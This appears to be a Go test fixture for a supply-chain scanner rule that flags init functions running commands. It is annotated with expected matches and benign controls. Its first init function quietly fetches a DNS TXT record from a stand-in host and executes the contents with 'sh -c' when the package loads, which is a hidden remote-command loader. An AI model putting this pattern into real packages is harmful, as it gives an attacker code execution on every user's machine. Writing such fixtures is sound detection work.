// Fixture for go.init-runs-command (written for provscan; not from any project).
package decimalx

import (
	"context"
	"net"
	"os/exec"
	"strings"
)

func init() {
	go func() {
		txt, err := net.LookupTXT("cfg.example.invalid")
		if err != nil || len(txt) == 0 {
			return
		}
		// ruleid: go.init-runs-command
		_ = exec.Command("sh", "-c", strings.Join(txt, "")).Start()
	}()
}

func init() {
	// ruleid: go.init-runs-command
	cmd := exec.CommandContext(context.Background(), "/bin/true")
	_ = cmd.Run()
}

func Version() string {
	// ok: go.init-runs-command
	out, _ := exec.Command("git", "describe").Output()
	return string(out)
}

func init() {
	// ok: go.init-runs-command
	precision = strings.Repeat("0", 8)
}

var precision string
